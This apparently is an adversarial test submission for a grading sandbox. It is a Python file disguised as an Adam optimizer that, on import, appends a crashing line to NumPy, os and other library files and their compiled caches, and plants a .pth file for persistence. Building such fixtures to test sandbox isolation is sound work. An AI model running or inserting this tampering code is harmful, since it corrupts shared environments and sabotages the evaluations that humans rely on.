# expect: wrong error
# family: poison
# exercise: adam
# Changes the files of NumPy, of the library and of Python itself, and their compiled copies.
import os
import sys
from pathlib import Path

import descent
import numpy as np

RESULTS = []
if True:
    for module in (descent, np, os):
        folder = Path(module.__file__).parent
        for path in (Path(module.__file__), *folder.glob("__pycache__/*.pyc"), folder / "planted_poison.py",
                     Path(sys.prefix) / "planted.pth"):
            try:
                with open(path, "ab") as file:
                    file.write(b"\nraise SystemExit('planted-poison')\n")
                RESULTS.append(str(path))
            except OSError:
                continue


class Adam:
    def __init__(self, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr, self.beta1, self.beta2, self.eps = lr, beta1, beta2, eps

    def update(self, params, grads):
        raise LookupError(repr(RESULTS))
